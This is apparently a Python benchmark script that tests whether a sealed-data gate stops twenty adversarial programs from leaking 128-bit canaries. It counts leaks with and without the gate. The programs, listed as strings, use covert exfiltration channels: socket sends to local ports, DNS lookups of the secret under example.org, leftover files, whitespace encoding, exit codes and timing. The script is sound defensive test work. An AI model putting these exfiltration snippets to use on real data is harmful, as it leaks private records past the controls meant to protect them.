"""Twenty programs that try to carry rows out of a sealed set, each approved by a person who did not look: what comes out.

    python benchmarks/sealed.py

Every row holds a canary of 128 bits. What who asked can see is searched for canaries in ten spellings: the reply, the statement, what a
listener on this machine hears, and every new file where one could come to lie. Beside it: the same programs in the
same sandbox, without the gate. Goal: 0 canaries out. Writes benchmarks/results/sealed.json.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import secrets
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

from report import Measurement, arguments, hand_in, load
from silva.curate.sealed import Field, Keys, Policy, Sealed, Shape, run, seal
from silva.curate.sealed.keys import VARIABLE, drawn
from silva.curate.sealed.ledger import held
from silva.curate.sealed.program import approve
from silva.sandbox import open_backend
from silva.sandbox.protocol import Spec

ROWS = 40
SHAPE = Shape(
    fields={
        "mean": Field(type="number", lower=0, upper=120, digits=1),
        "people": Field(type="count", upper=1000),
        "mood": Field(type="choice", values=("good", "bad")),
        "cities": Field(type="histogram", upper=1000, values=("Oslo", "Rome")),
    }
)
HEAD = """
import sys, json, os, socket, subprocess, time
rows = [json.loads(line) for line in sys.stdin]
secret = rows[0]["secret"]
good = {"mean": 50.0, "people": len(rows), "mood": "good", "cities": {"Oslo": 20, "Rome": 20}}
def say(**more):
    print(json.dumps({**good, **more}))
"""
PROGRAMS = {
    "prints the rows": "print(json.dumps(rows))",
    "a text in the place of a number": "say(mean=secret)",
    "a field nobody agreed on": "say(note=secret)",
    "a city of that name": "say(cities={secret: 40})",
    "another choice": "say(mood=secret)",
    "a large number": "say(mean=int(secret, 16))",
    "many digits": "say(mean=float('50.' + str(int(secret, 16))))",
    "a name twice": "print('{\"mean\": \"' + secret + '\", ' + json.dumps(good)[1:])",
    "blanks between": "print(''.join(' ' if bit == '0' else '\\t' for bit in bin(int(secret, 16))) + json.dumps(good))",
    "an exception": "raise ValueError(secret)",
    "standard error": "print(secret, file=sys.stderr); say()",
    "its exit code": "say(); sys.exit(int(secret[:2], 16))",
    "words after the release": "say(); print(secret)",
    "a flood": "print(secret * 100_000)",
    "files that stay": (
        "for place in ('/tmp', '/workspace', '/var/tmp', '/dev/shm', os.path.expanduser('~')):\n"
        "    try:\n        open(place + '/left-' + secret, 'w').write(secret)\n    except OSError: pass\nsay()"
    ),
    "a link to what it read": "os.symlink('/proc/self/fd/0', '/workspace/out'); os.rename('/workspace/program.py', '/workspace/' + secret); say()",
    "the network": (
        "for host in ('127.0.0.1', '10.0.0.1', 'localhost'):\n"
        "    try:\n        way = socket.create_connection((host, PORT), 1); way.sendall(secret.encode())\n    except OSError: pass\nsay()"
    ),
    "a name to be looked up": "subprocess.run(['getent', 'hosts', secret + '.example.org']); say()",
    "a process that stays": (
        "subprocess.Popen(['sh', '-c', 'sleep 1; echo ' + secret + ' > /tmp/late; echo ' + secret + ' >&2'], start_new_session=True); say()"
    ),
    "how long it takes": "time.sleep(int(secret[:2], 16) / 400); say()",
}


class Listener:
    """What reaches a port of this machine."""

    def __init__(self) -> None:
        self.heard = b""
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            way, _ = self._socket.accept()
            with way:
                way.settimeout(2)
                self.heard += way.recv(65536)


def spellings(canary: str) -> list[bytes]:
    """A canary as it may be written."""
    number = int(canary, 16)
    raw = bytes.fromhex(canary)
    found = [
        canary,
        canary[::-1],
        canary.upper(),
        str(number),
        bin(number)[2:],
        base64.b64encode(raw).decode().rstrip("="),
    ]
    blanks = "".join(" " if bit == "0" else "\t" for bit in bin(number))
    return [*(each.encode() for each in found), raw, raw[::-1], blanks.encode(), base64.b32encode(raw).rstrip(b"=")]


def files(scratch: str) -> dict[str, bytes]:
    """What lies where a program's files could come to lie, and what the folder of all temporary files lists."""
    found = {str(path): b"" for path in Path(tempfile.gettempdir()).iterdir()}
    for root in (scratch, "/var/tmp", "/dev/shm"):
        for folder, _, names in os.walk(root):
            for name in names:
                path = Path(folder, name)
                try:
                    if path.is_file() and path.stat().st_mtime > BEGUN and path.stat().st_size < 1 << 20:
                        found[str(path)] = path.read_bytes()
                except OSError:
                    continue
    return found


BEGUN = time.time()


def out(visible: bytes, canaries: list[str]) -> int:
    """How many canaries are in what can be seen."""
    return sum(any(each in visible for each in spellings(canary)) for canary in canaries)


async def bare(code: bytes, rows: bytes) -> bytes:
    """What a program says that nobody holds back."""
    async with await open_backend() as backend, await backend.create(Spec()) as box:
        await box.put(code, "/workspace/program.py")
        result = await box.exec(["python3", "-I", "/workspace/program.py"], stdin=rows, seconds=10)
        left = await box.exec("cat /tmp/* /workspace/* ~/* 2>/dev/null; ls /tmp /workspace", seconds=10)
    return result.stdout + result.stderr + b" " + str(result.code).encode() + left.stdout


def main() -> int:
    """Every program behind the gate, and without it; hand in."""
    given = arguments(__doc__).parse_args()
    before, listener = load(), Listener()
    os.environ[VARIABLE] = drawn()
    keys = Keys()
    canaries = [secrets.token_hex(16) for _ in range(ROWS)]
    rows = [{"secret": each, "city": ("Oslo", "Rome")[n % 2], "age": 20 + n} for n, each in enumerate(canaries)]
    policy = Policy(bits=100_000, k=10, seconds=3.0)
    chosen = dict(list(PROGRAMS.items())[:: 5 if given.quick else 1])
    told: list[dict[str, Any]] = []
    sizes: set[int] = set()
    with tempfile.TemporaryDirectory(prefix="gate-") as scratch:
        folder = Path(scratch, "people.sealed")
        seal(folder, rows, policy, keys)
        sealed = Sealed(folder)
        plain = "".join(json.dumps(row) + "\n" for row in rows).encode()
        for name, program in chosen.items():
            code = (HEAD + program.replace("PORT", str(listener.port)) + "\n").encode()
            with held(sealed) as ledger:
                approve(code, SHAPE, sealed, ledger, keys, "nobody who looked", 1)
            answered = run(sealed, code, SHAPE, keys)
            time.sleep(1.2)  # whatever stays behind has time to speak
            own = {str(each) for each in folder.iterdir()}
            new = b"".join(path.encode() + data for path, data in files(scratch).items() if path not in own)
            seen = answered.reply + answered.statement + listener.heard + new
            listener.heard = b""
            sizes.add(len(answered.reply))
            found = out(seen, canaries)
            without = out(asyncio.run(bare(code, plain)) + listener.heard, canaries)
            listener.heard = b""
            told.append(
                {"program": name, "canaries_out": found, "released": answered.released, "without_the_gate": without}
            )
            print(told[-1], file=sys.stderr)
    worst = sum(row["canaries_out"] for row in told)
    measured = Measurement(
        name="sealed",
        question=f"{len(chosen)} programs that try to carry {ROWS} canaries out of a sealed set",
        bar="0 canaries out; the ratio is how many came",
        ratio=float(worst),
        holds=worst == 0 and len(sizes) == 1,
        rows=told,
        details={
            "reply_sizes": sorted(sizes),
            "bits_a_release_may_carry": round(SHAPE.bits(policy), 1),
            "programs_that_carry_some_out_without_the_gate": sum(row["without_the_gate"] > 0 for row in told),
        },
        quick=given.quick,
    )
    return hand_in(measured, before)


if __name__ == "__main__":
    sys.exit(main())
